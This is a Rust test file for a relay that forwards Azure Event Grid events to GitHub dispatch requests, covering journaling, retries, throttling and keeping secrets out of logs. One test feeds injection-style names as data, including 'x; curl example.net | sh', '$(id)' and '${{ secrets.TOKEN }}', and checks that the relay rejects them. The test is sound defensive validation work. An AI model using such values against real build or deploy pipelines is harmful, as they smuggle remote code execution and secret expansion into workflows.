//! **Here**: deliveries in, requests and the whole told history out, with doubles and a clock that tests move.
//! **Not here**: the reply table (`webhook`), releases and lanes (`release`), crashes at every verb (`crash`).
//! **Reads**: `rig` for the relay and its doubles.
//! **Source**: DESIGN sections 2, 3, 5, 6 and 8; STYLE section 8, flow.

use std::pin::pin;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::task::{Context, Waker};
use std::time::Duration;

use http::Method;
use relay_core::alarm::Alert;
use relay_core::clock::Clock as _;
use relay_core::dispatch::{Advice, Checked, Dispatched, Scope, Sighting};
use relay_core::journal::MemoryJournal;
use relay_core::journal::item::Verdict;
use relay_core::journal::scan::ScanQuery;
use relay_core::key::RelayId;
use relay_core::retry::OnUnknown;
use relay_core::testing::doubles::{Asked, ScriptedDispatcher};
use relay_core::testing::faults::{Cut, FaultPlan, FaultyJournal};
use serde_json::{Value, json};

use crate::rig::{
    FORMER, Rig, SECRET, Slow, WORKSPACE, Watching, after, builder, deploy, doubles, error, header, receipt,
    registered, request, run, told,
};
use crate::support::START;

#[tokio::test]
async fn ok_no_2xx_before_the_journal_has_said_ok() {
    for cut in [Cut::Before, Cut::After] {
        let (clock, _) = doubles();
        let journal = Arc::new(Slow {
            cut,
            open: AtomicBool::new(false),
            ..Slow::new(&clock)
        });
        let rig = Rig::with(Arc::clone(&journal), [deploy()]);
        let body = json!([registered("1", "credit-risk", "7")]).to_string();
        let mut context = Context::from_waker(Waker::noop());
        {
            // Event Grid gives up on one delivery, and tries again: that one has to wait as well.
            let mut given_up = pin!(rig.post(body.clone()));
            assert!(given_up.as_mut().poll(&mut context).is_pending(), "{cut:?}");
        }
        let mut reply = pin!(rig.post(body));
        for _ in 0..20 {
            assert!(reply.as_mut().poll(&mut context).is_pending(), "{cut:?}");
            tokio::task::yield_now().await;
        }
        journal.open.store(true, Ordering::SeqCst);
        let response = reply.await;
        assert_eq!(response.status(), 200, "{cut:?}");
        assert_eq!(rig.items().await.len(), 1, "{cut:?}");
    }
}

#[tokio::test]
async fn err_503_when_the_journal_fails_and_the_redelivery_is_taken() {
    let (good, bad) = (registered("1", "credit-risk", "7"), json!({"no": "event"}));
    let unwanted = json!({"id": "2", "topic": "/lab", "eventType": "Contoso.Opened", "data": {}});
    let check = async |body: Value, cut: Cut, n_before: usize, n: usize| {
        let about = format!("{cut:?} {body}");
        let faulty = FaultyJournal::new(MemoryJournal::new(), FaultPlan::fail(0, cut));
        let rig = Rig::with(faulty, [deploy()]);
        let response = rig.post(body.to_string()).await;
        assert_eq!(response.status(), 503, "{about}");
        let wait: u32 = header(&response, "retry-after").unwrap().parse().unwrap();
        assert!(wait > 0, "{about}");
        assert_eq!(rig.relay.counts().not_promised, 1, "{about}");
        let alerts = rig.alarm.take();
        assert!(
            matches!(*alerts, [Alert::JournalFailing { .. }]),
            "{about}: {alerts:?}"
        );
        // What was written without the relay's knowledge is as good as accepted; nothing else may go out.
        rig.drain().await;
        assert_eq!(rig.github.requests().len(), n_before, "{about}");

        assert_eq!(rig.post(body.to_string()).await.status(), 200, "{about}");
        rig.drain().await;
        assert_eq!(rig.github.requests().len(), n, "{about}");
    };
    for body in [good.clone(), json!([good, bad])] {
        check(body.clone(), Cut::Before, 0, 1).await;
        check(body, Cut::After, 1, 1).await;
    }
    for body in [bad, unwanted] {
        check(body.clone(), Cut::Before, 0, 0).await;
        check(body, Cut::After, 0, 0).await;
    }
}

#[tokio::test]
async fn ok_one_event_is_dispatched() {
    let rig = Rig::new();
    assert_eq!(
        rig.release("1", "credit-risk", "7").await,
        receipt([1, 0, 0, 0, 0])
    );
    assert_eq!(rig.github.asked(), [], "the intake never talks to GitHub");
    rig.drain().await;
    rig.assert_told(&[
        "0 event 1 accepted",
        "0 item 1 began deploy version 7 generation 1",
        "0 checked: shows the relay id",
        "0 item 1 send",
        "0 item 1 dispatch",
    ])
    .await;
    let requests = rig.github.requests();
    let [request] = requests.as_slice() else {
        panic!("{requests:?}")
    };
    assert_eq!(request.target.repository.as_str(), "contoso/deploy");
    assert_eq!(request.target.action.to_string(), "deploy_pipeline_action");
    assert_eq!(request.relay_id.as_str().len(), RelayId::LEN);
    let id = request.relay_id.as_str();
    let payload = json!({"model_name": "credit-risk", "model_version": "7", "relay": {"id": id}});
    assert_eq!(Value::from(request.payload.clone()), payload);
    assert_eq!(rig.alarm.take(), []);
}

#[tokio::test]
async fn ok_a_lost_answer_is_settled_by_looking_for_the_run() {
    let rig = Rig::new();
    rig.github.then_dispatch(error(Advice::Unknown, "no answer"));
    rig.github.then_probe(Ok(Sighting::NotSeen));
    rig.github.then_probe(error(Advice::NotSent, "no connection"));
    rig.github.then_probe(Ok(Sighting::Seen(run("42"))));
    rig.release("1", "credit-risk", "7").await;
    rig.drain().await;
    rig.assert_told(&[
        "0 event 1 accepted",
        "0 item 1 began deploy version 7 generation 1",
        "0 checked: shows the relay id",
        "0 item 1 send",
        "0 item 1 doubt at 3: no answer",
        "3 item 1 look_again at 9: no run shows the relay id yet",
        "9 item 1 look_again at 21: looking for the run failed: no connection",
        "21 item 1 dispatch run 42",
    ])
    .await;
    assert_eq!(rig.github.requests().len(), 1);
    for asked in rig.github.asked() {
        if let Asked::Probe { relay_id, since, .. } = asked {
            assert_eq!(relay_id, rig.github.requests()[0].relay_id);
            assert!(since <= START.before(Duration::from_secs(3_600)), "{since}");
        }
    }
}

/// Looks in vain until the window of ten minutes has passed.
const IN_VAIN: [&str; 15] = [
    "0 event 1 accepted",
    "0 item 1 began deploy version 7 generation 1",
    "0 checked: shows the relay id",
    "0 item 1 send",
    "0 item 1 doubt at 3: no answer",
    "3 item 1 look_again at 9: no run shows the relay id yet",
    "9 item 1 look_again at 21: no run shows the relay id yet",
    "21 item 1 look_again at 45: no run shows the relay id yet",
    "45 item 1 look_again at 93: no run shows the relay id yet",
    "93 item 1 look_again at 189: no run shows the relay id yet",
    "189 item 1 look_again at 285: no run shows the relay id yet",
    "285 item 1 look_again at 381: no run shows the relay id yet",
    "381 item 1 look_again at 477: no run shows the relay id yet",
    "477 item 1 look_again at 573: no run shows the relay id yet",
    "573 item 1 look_again at 600: no run shows the relay id yet",
];

#[tokio::test]
async fn ok_an_unseen_request_is_sent_once_more_where_its_absence_means_something() {
    let rig = Rig::new();
    rig.github.then_dispatch(error(Advice::Unknown, "no answer"));
    rig.release("1", "credit-risk", "7").await;
    rig.drain().await;
    let expect = [
        &IN_VAIN[..],
        &[
            "600 item 1 resend at 600: no run shows the relay id, and the probe window has passed",
            "600 item 1 send",
            "600 item 1 dispatch",
        ],
    ];
    rig.assert_told(&expect.concat()).await;
    let requests = rig.github.requests();
    assert_eq!(requests.len(), 2);
    assert_eq!(requests[0], requests[1], "the same id, the same payload");
    assert_eq!(rig.alarm.take(), []);
}

#[tokio::test]
async fn ok_an_unseen_request_parks_where_its_absence_means_nothing() {
    let rig = Rig::new();
    rig.github.always_check(Ok(Checked {
        shows_relay_id: Some(false),
        remarks: Vec::new(),
    }));
    rig.github.then_dispatch(error(Advice::Unknown, "no answer"));
    rig.release("1", "credit-risk", "7").await;
    rig.drain().await;
    let mut expect = IN_VAIN.to_vec();
    expect[2] = "0 checked: does not show the relay id";
    expect.push(
        "600 item 1 park: unknown: it may have been dispatched; the target is not known to show the relay id in \
         run-name, so a run may have started unseen",
    );
    rig.assert_told(&expect).await;
    assert_eq!(rig.github.requests().len(), 1);
    assert!(matches!(*rig.alarm.take(), [Alert::Parked { .. }]));
}

#[tokio::test]
async fn ok_unknown_follows_the_route() {
    let check = async |unknown: OnUnknown, n_requests: usize, verdict: &str| {
        let mut route = deploy();
        route.unknown = unknown;
        let rig = Rig::with(MemoryJournal::new(), [route]);
        rig.github.then_dispatch(error(Advice::Unknown, "no answer"));
        rig.release("1", "credit-risk", "7").await;
        rig.drain().await;
        assert_eq!(rig.github.requests().len(), n_requests, "{unknown:?}");
        let items = rig.items().await;
        assert_eq!(items[0].verdict.as_ref().map(Verdict::as_str), Some(verdict));
        let looked = |asked: &Asked| matches!(asked, Asked::Probe { .. });
        assert_eq!(rig.github.asked().iter().any(looked), unknown == OnUnknown::Probe);
    };
    check(OnUnknown::Probe, 2, "dispatched").await;
    check(OnUnknown::Resend, 2, "dispatched").await;
    check(OnUnknown::Park, 1, "parked").await;
}

#[tokio::test]
async fn ok_each_advice_leads_to_its_end() {
    let check = async |advice: Advice, n_requests: usize, verdict: &str, alerts: &[&str]| {
        let rig = Rig::new();
        rig.github.then_dispatch(error(advice, "the reason"));
        rig.release("1", "credit-risk", "7").await;
        rig.drain().await;
        assert_eq!(rig.github.requests().len(), n_requests, "{advice:?}");
        let items = rig.items().await;
        assert_eq!(
            items[0].verdict.as_ref().map(Verdict::as_str),
            Some(verdict),
            "{advice:?}"
        );
        let raised = rig.alarm.take();
        let words: Vec<_> = raised.iter().map(|alert| json!(alert)["alarm"].clone()).collect();
        assert_eq!(words, alerts, "{advice:?}");
        let told = rig.told_of("the reason").await;
        assert!(!told.is_empty(), "{advice:?}: the history says why");
    };
    check(Advice::GiveUp, 1, "parked", &["parked"]).await;
    check(Advice::NotSent, 2, "dispatched", &[]).await;
    check(Advice::Throttled { until: after(5) }, 2, "dispatched", &[]).await;
    check(Advice::Unknown, 2, "dispatched", &[]).await;
    let opened = ["blocked", "unblocked"];
    check(Advice::Block(Scope::Target), 2, "dispatched", &opened).await;
    check(Advice::Block(Scope::Principal), 2, "dispatched", &opened).await;
}

#[tokio::test]
async fn ok_a_blocked_target_is_checked_again_every_ten_minutes() {
    let rig = Rig::new();
    rig.github
        .then_dispatch(error(Advice::Block(Scope::Target), "not found"));
    rig.github.then_check(Ok(Checked {
        shows_relay_id: Some(true),
        remarks: Vec::new(),
    }));
    rig.github
        .then_check(error(Advice::Block(Scope::Target), "not found"));
    rig.github.then_check(error(Advice::NotSent, "no connection"));
    rig.release("1", "credit-risk", "7").await;
    rig.drain().await;
    rig.assert_told(&[
        "0 event 1 accepted",
        "0 item 1 began deploy version 7 generation 1",
        "0 checked: shows the relay id",
        "0 item 1 send",
        "0 blocked target: not found",
        "0 item 1 retry at 0: not found",
        "600 checked: not found",
        "1200 checked: no connection",
        "1800 checked: shows the relay id",
        "1800 unblocked target",
        "1800 item 1 send",
        "1800 item 1 dispatch",
    ])
    .await;
    let alerts = rig.alarm.take();
    let words: Vec<_> = alerts.iter().map(|alert| json!(alert)["alarm"].clone()).collect();
    assert_eq!(words, ["blocked", "warning", "unblocked"]);
}

#[tokio::test]
async fn ok_a_limit_waits_until_the_moment_that_was_named() {
    let rig = Rig::new();
    let until = after(90);
    rig.github
        .then_dispatch(error(Advice::Throttled { until }, "secondary limit"));
    rig.release("1", "credit-risk", "7").await;
    assert_eq!(rig.relay.run_due().await.unwrap().next_due, Some(until));
    rig.clock.set(after(89));
    rig.relay.run_due().await.unwrap();
    assert_eq!(rig.github.requests().len(), 1);
    rig.drain().await;
    rig.assert_told(&[
        "0 event 1 accepted",
        "0 item 1 began deploy version 7 generation 1",
        "0 checked: shows the relay id",
        "0 item 1 send",
        "0 throttled default until 90",
        "0 item 1 retry at 90: secondary limit",
        "90 item 1 send",
        "90 item 1 dispatch",
    ])
    .await;
    assert_eq!(rig.github.requests().len(), 2);
}

/// A limit that an accepted answer names in milliseconds by mistake would close the identity for 50,000 years.
#[tokio::test]
async fn ok_a_limit_is_believed_for_a_day_at_most() {
    let rig = Rig::new();
    rig.github.then_dispatch(Ok(Dispatched {
        run: None,
        closed_until: Some(after(1_700_000_000_000)),
    }));
    rig.release("1", "credit-risk", "7").await;
    rig.drain().await;
    rig.release("2", "credit-risk", "8").await;
    let due = rig.relay.run_due().await.unwrap().next_due;
    let in_two_days = rig.clock.now().after(Duration::from_secs(2 * 86_400));
    assert!(
        due.is_some_and(|due| due < in_two_days),
        "due at {due:?}, alerts {:?}",
        rig.alarm.take()
    );
    let limit = Advice::Throttled {
        until: after(1_700_000_000_000),
    };
    let rig = Rig::new();
    rig.github.then_dispatch(error(limit, "limit"));
    rig.github.then_dispatch(error(Advice::Unknown, "no answer"));
    rig.github.then_probe(error(limit, "limit"));
    rig.release("1", "credit-risk", "7").await;
    rig.drain().await;
    let three_days = after(3 * 86_400);
    assert!(rig.clock.now() < three_days, "{:#?}", rig.told_of("").await);
}

#[tokio::test]
async fn ok_a_hostile_name_parks_and_is_sent_nowhere() {
    let long = "a".repeat(256);
    for name in [
        "x; curl example.net | sh",
        "$(id)",
        "`id`",
        "../../admin",
        "-rf",
        "a\nb",
        "a b",
        "é",
        "${{ secrets.TOKEN }}",
        &long,
    ] {
        let rig = Rig::new();
        assert_eq!(rig.release("1", name, "7").await, receipt([1, 0, 0, 0, 0]));
        rig.drain().await;
        assert_eq!(rig.github.asked(), [], "{name}");
        let told: Vec<_> = rig.history().await.iter().map(told).collect();
        let [accepted, began, park] = told.as_slice() else {
            panic!("{told:?}")
        };
        assert_eq!(accepted, "0 event 1 accepted");
        assert_eq!(began, "0 item 1 began deploy version 7 generation 1");
        let why = "0 item 1 park: payload key \"model_name\": data.modelName is ";
        assert!(park.starts_with(why), "{park}");
        let alerts = rig.alarm.take();
        assert!(matches!(&*alerts, [Alert::Parked { route, .. }] if route == "deploy"));
    }
    let rig = Rig::new();
    rig.release("1", "x; curl example.net | sh", "7").await;
    rig.assert_told(&[
        "0 event 1 accepted",
        "0 item 1 began deploy version 7 generation 1",
        "0 item 1 park: payload key \"model_name\": data.modelName is \"x; curl example.net | sh\", and only \
         [A-Za-z0-9][A-Za-z0-9._-]{0,254} may enter a payload unless the route widens it",
    ])
    .await;
}

#[tokio::test]
async fn ok_the_intent_is_recorded_before_anything_is_sent() {
    let (clock, alarm) = doubles();
    let journal = Arc::new(MemoryJournal::new());
    let github = Arc::new(Watching {
        journal: Arc::clone(&journal),
        script: ScriptedDispatcher::new(),
        saw: Mutex::default(),
    });
    let relay = builder(journal, Arc::clone(&github), [deploy()], &clock, &alarm)
        .build()
        .unwrap();
    github.script.then_dispatch(error(Advice::Unknown, "no answer"));
    github
        .script
        .then_dispatch(error(Advice::Throttled { until: after(700) }, "limit"));
    let body = json!([registered("1", "credit-risk", "7")]).to_string();
    let uri = format!("/events?code={SECRET}");
    let response = relay.accept(request(&Method::POST, &uri, &[], body.into())).await;
    assert_eq!(response.status(), 200);
    while let Some(due) = relay.run_due().await.unwrap().next_due {
        clock.set(due);
    }
    let saw = github.saw.lock().unwrap();
    let expect = [
        "Sending attempt 1, told: 0 item 1 send",
        "Sending attempt 2, told: 600 item 1 send",
        "Sending attempt 3, told: 700 item 1 send",
    ];
    assert_eq!(*saw, expect, "{saw:#?}");
}

#[tokio::test]
async fn ok_nothing_is_sent_with_less_than_one_attempt_left_of_the_lease() {
    // An attempt takes 30 s at most, and a lease lasts 15 s longer.
    let check = async |claim_takes_ms: u64, sent_at_once: bool| {
        let (clock, alarm) = doubles();
        let journal = Arc::new(Slow::new(&clock));
        let takes = Duration::from_millis(claim_takes_ms);
        journal.claims_take.lock().unwrap().push(takes);
        let github = Arc::new(ScriptedDispatcher::new());
        let relay = builder(
            Arc::clone(&journal),
            Arc::clone(&github),
            [deploy()],
            &clock,
            &alarm,
        )
        .build()
        .unwrap();
        let rig = Rig {
            relay,
            github,
            clock,
            alarm,
        };
        rig.release("1", "credit-risk", "7").await;
        rig.relay.run_due().await.unwrap();
        assert_eq!(
            rig.github.requests().len(),
            usize::from(sent_at_once),
            "{takes:?}"
        );
        let why = "less time than one attempt may take was left of the lease";
        let retries = rig.told_of("retry").await;
        assert_eq!(
            retries.iter().any(|line| line.ends_with(why)),
            !sent_at_once,
            "{retries:?}"
        );
        rig.drain().await;
        assert_eq!(rig.github.requests().len(), 1, "{takes:?}");
        assert_eq!(rig.told_of("dispatch").await.len(), 1, "{takes:?}");
        assert_eq!(rig.alarm.take(), [], "{takes:?}");
    };
    check(0, true).await;
    check(15_000, true).await;
    check(15_001, false).await;
    check(44_999, false).await;
}

#[tokio::test]
async fn ok_no_secret_in_replies_alarms_history_or_debug() {
    let wrong = "lantern-4712";
    let callback = "callback-5cd1";
    let mut texts = Vec::new();
    let faulty = FaultyJournal::new(MemoryJournal::new(), FaultPlan::fail(0, Cut::Before));
    let rig = Rig::with(faulty, [deploy()]);
    let aeg = ("aeg-subscription-name", "RELAY");
    let event = json!([registered("1", "credit-risk", "7"), {"no": "event"}]).to_string();
    let hostile = json!([registered("2", "a b", "7")]).to_string();
    let validation = json!([{
        "id": "3", "topic": WORKSPACE, "eventType": "Microsoft.EventGrid.SubscriptionValidationEvent",
        "data": {"validationCode": "1", "validationUrl": format!("https://rp.eventgrid.azure.net:553/x?id={callback}")}
    }])
    .to_string();
    let large = " ".repeat(4 * 1024 * 1024 + 1);
    let callback_url = format!("https://rp.eventgrid.azure.net:553/y?id={callback}");
    let asks = [
        ("webhook-request-origin", "eventgrid.azure.net"),
        ("webhook-request-callback", callback_url.as_str()),
    ];
    let mut statuses = Vec::new();
    for body in [&event, &event, &hostile, &validation, "hunter", &large, ""] {
        for secret in [SECRET, FORMER, wrong] {
            let by_query = format!("/events?code={secret}");
            for (method, uri, headers) in [
                (Method::POST, by_query.as_str(), vec![aeg]),
                (Method::POST, "/events", vec![aeg, ("x-relay-secret", secret)]),
                (Method::OPTIONS, &by_query, asks.to_vec()),
                (Method::GET, &by_query, vec![aeg]),
            ] {
                let asked = request(&method, uri, &headers, body.to_owned().into());
                let response = rig.relay.accept(asked).await;
                statuses.push(response.status().as_u16());
                texts.push(format!("{response:?}"));
            }
        }
    }
    statuses.sort_unstable();
    statuses.dedup();
    assert_eq!(statuses, [200, 400, 401, 405, 413, 503], "every kind of reply");
    rig.github.then_dispatch(error(Advice::Unknown, "no answer"));
    rig.drain().await;

    let alerts = rig.alarm.alerts();
    assert!(alerts.len() > 5, "{alerts:?}");
    texts.push(format!("{alerts:?} {}", serde_json::to_string(&alerts).unwrap()));
    let history = rig.history().await;
    assert!(history.len() > 5, "{history:?}");
    texts.push(format!(
        "{history:?} {}",
        serde_json::to_string(&history).unwrap()
    ));
    texts.push(format!("{:?} {:?}", rig.events().await, rig.items().await));
    for query in [ScanQuery::Unreadable, ScanQuery::Overview] {
        texts.push(format!("{:?}", rig.relay.scan(query).await.unwrap()));
    }
    let health = rig.relay.health().await;
    texts.push(format!("{health:?} {}", serde_json::to_string(&health).unwrap()));
    texts.push(format!("{:?} {:#?}", rig.relay, rig.relay));
    let (clock, alarm) = doubles();
    let unbuilt = builder(
        MemoryJournal::new(),
        ScriptedDispatcher::new(),
        [deploy()],
        &clock,
        &alarm,
    );
    texts.push(format!("{unbuilt:?}"));
    for text in texts {
        for secret in [SECRET, FORMER, wrong, callback] {
            let at = text.find(secret);
            let around = at.map(|at| {
                text[at.saturating_sub(200)..]
                    .chars()
                    .take(300)
                    .collect::<String>()
            });
            assert_eq!(around, None, "{secret}");
        }
    }
}
